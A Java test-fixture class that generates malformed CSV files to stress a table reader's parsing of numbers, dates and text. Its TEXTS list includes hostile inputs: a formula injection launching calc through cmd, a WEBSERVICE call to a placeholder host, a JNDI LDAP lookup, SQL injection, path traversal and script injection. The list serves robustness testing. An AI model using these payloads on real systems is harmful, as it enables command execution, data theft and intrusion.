package org.mingzhang.read.hostile;

import java.util.ArrayList;
import java.util.List;

/**
 * Cells that patterns, numbers and dates of a reader may trip over, in each column of each table.
 */
final class TextValues {

  private static final List<String> NUMBERS =
      List.of(
          "1e308",
          "1e309",
          "1e400",
          "1e-400",
          "-1e308",
          "NaN",
          "Infinity",
          "-Infinity",
          "-0",
          "+0",
          "0x1p3",
          "0x7FFFFFFF",
          "1_000",
          "1__0",
          "09",
          "007",
          "1.",
          ".5",
          "-.5",
          "--5",
          "+-5",
          "5-",
          "5+",
          "(5",
          "5)",
          "((5))",
          "(-5)",
          "-(5)",
          "1,2,3",
          "1,23",
          "12,34,567",
          "1.2.3",
          "1..2",
          "9223372036854775807",
          "9223372036854775808",
          "-9223372036854775808",
          "92233720368547758.07",
          "92233720368547758.08",
          "99999999999999999999.99",
          "0.001",
          "0.005",
          "1/2",
          "½",
          "Ⅻ",
          "①",
          "一百二十",
          "1万",
          "1亿万",
          "0.0001万元",
          "９９９．９９",
          "٣٤٥",
          "१२३",
          "1 234,50",
          "1'234.50",
          "¥",
          "¥¥5",
          "元",
          "-元",
          "%",
          "5%",
          "1e5万",
          "999999999999999万元",
          "0".repeat(300) + "1");

  private static final List<String> DATES =
      List.of(
          "-1",
          "0",
          "1",
          "59",
          "60",
          "61",
          "2958465",
          "2958466",
          "46203.999999999",
          "1e9",
          "-2026-01-01",
          "0000-00-00",
          "0000-01-01",
          "0001-01-01",
          "1899-12-31",
          "1900-02-29",
          "9999-12-31",
          "10000-01-01",
          "99999-12-31",
          "999999999-12-31",
          "2026-02-30",
          "2026-13-01",
          "2026-00-10",
          "2026-1-1-1",
          "2026--01",
          "2026-07-31T",
          "2026-07-31T25:61:61",
          "2026-07-31 24:00:00",
          "2026-07-31 23:59:60",
          "2026-07-31T00:00:00+99:99",
          "31.12.2026",
          "12/31/2026",
          "26-7-1",
          "2026年",
          "2026年7月",
          "2026年7月31日24时",
          "二〇二六年七月",
          "２０２６－０７－３１",
          "20260731",
          "202607310000",
          "20260231",
          "00000000",
          "99999999",
          "2026-07-31Z",
          "now",
          "2026W01",
          "2026-366");

  private static final List<String> TEXTS =
      List.of(
          "=cmd|' /C calc'!A0",
          "=WEBSERVICE(\"http://x/\")",
          "=HYPERLINK(\"http://x\";\"y\")",
          "@SUM(A1)",
          "+1+1",
          "-2+3",
          "=",
          "==",
          "#REF!",
          "#DIV/0!",
          "#NAME?",
          "null",
          "NULL",
          "undefined",
          "None",
          "true",
          "'; DROP TABLE fees; --",
          "' OR '1'='1",
          "${jndi:ldap://x/y}",
          "%s%n%x%n",
          "{0}",
          "{",
          "}",
          "{1} {2}",
          "\\",
          "\\u0000",
          "$1",
          "$0\\",
          "../../etc/passwd",
          "<b>x</b>",
          "<script>alert(1)</script>",
          "&lt;&amp;",
          "C:\\Windows",
          "http://x/",
          "合计",
          "小计",
          "合计：5",
          "总计(元)",
          "累计",
          "制表人",
          "第1页",
          "备注：x",
          "------",
          "合",
          "第",
          "-",
          "--",
          "——",
          "无",
          "1.23457E+17",
          "123456789012345678901234567890",
          "13800000000",
          "138000000001",
          "张三(13800000000)",
          "京A12345(1-1-101-/1-2-202-)",
          "1-1-101-/",
          "1栋",
          "单元",
          "栋单元室",
          "一千零一栋",
          "B1-B2-B3",
          "-1-1-1",
          "1----1",
          "////",
          "####",
          "地下",
          "地下负一层",
          "0-0-0",
          "999999999999-1-1",
          "101+102",
          "1-1-101,1-1-102");

  private static final List<String> RUNS =
      List.of(
          "1", "-", "(", ")", "((", "()", "（", "[", "]", "{", "，", "1,", "1.", ".", ",1", " ",
          "\u3000", "\u00A0", "\u200B", "合", "合计", "小计", "合计:", "第", "第1", "第1页", "1、", "1题", "一",
          "十", "百千万亿", "栋", "单元", "1栋", "-1", "/", "#", "年", "月1", "2026-", ":", "1:", "E", "1e",
          "+", "¥", "元", "万", "%", "9", "０", "\t", "\"\"", "★", "┋", "→", "a", "aA", "ﷺ", "🏠",
          "元/m2", "m²", "平方米", "分");

  private TextValues() {}

  static List<HostileFile> files() {
    List<HostileFile> files = new ArrayList<>();
    for (GoodTables.Table table : GoodTables.ALL) {
      files.add(file(table, "numbers", table(table, NUMBERS)));
      files.add(file(table, "dates", table(table, DATES)));
      files.add(file(table, "texts", table(table, TEXTS)));
      files.add(file(table, "runs-of-50", table(table, runs(50))));
      files.add(file(table, "runs-of-9000", table(table, runs(9_000 / 4))));
      files.add(file(table, "headers", headers(table)));
    }
    GoodTables.Table fees = GoodTables.FEES;
    files.add(HostileFile.heavy("value-fees-runs-of-100000.csv", table(fees, runs(100_000))));
    for (String run : List.of("1", "(", "-", " ", "合", "合计", "第1", "1,", "栋", "2026-")) {
      files.add(
          HostileFile.of(
              "value-long-header-" + Integer.toHexString(run.hashCode()) + ".csv",
              Content.of(
                  Content.of("\""),
                  Content.repeat(run, 300_000),
                  Content.of("\"," + fees.headerLine()),
                  Content.of("\""),
                  Content.repeat(run, 300_000),
                  Content.of("\"," + String.join(",", fees.row()) + "\n"))));
    }
    return files;
  }

  private static HostileFile file(GoodTables.Table table, String what, Content content) {
    return HostileFile.of("value-" + table.name() + "-" + what + ".csv", content);
  }

  private static List<String> runs(int times) {
    List<String> runs = new ArrayList<>();
    for (String run : RUNS) {
      runs.add(run.repeat(times));
      runs.add(run.repeat(times) + "!");
    }
    return runs;
  }

  /** A row for each value in each column. */
  private static Content table(GoodTables.Table table, List<String> values) {
    List<Content> parts = new ArrayList<>();
    parts.add(Content.of(table.headerLine()));
    for (int column = 0; column < table.row().size(); column++) {
      int at = column;
      parts.add(Content.each(values.size(), i -> row(table, at, values.get((int) i))));
    }
    return Content.of(parts.toArray(Content[]::new));
  }

  private static String row(GoodTables.Table table, int column, String value) {
    List<String> row = new ArrayList<>(table.row());
    row.set(column, '"' + value.replace("\"", "\"\"") + '"');
    return String.join(",", row) + "\n";
  }

  /** The header with each cell spoilt in turn, in the lines above the good one. */
  private static Content headers(GoodTables.Table table) {
    StringBuilder text = new StringBuilder();
    List<String> runs = runs(200);
    for (int i = 0; i < 25; i++) {
      List<String> header = new ArrayList<>(table.header());
      header.set(i % header.size(), runs.get(i * 5 % runs.size()).replaceAll("[,\"\n\t]", "x"));
      text.append(String.join(",", header)).append('\n');
    }
    return Content.of(text + table.csv(2));
  }
}
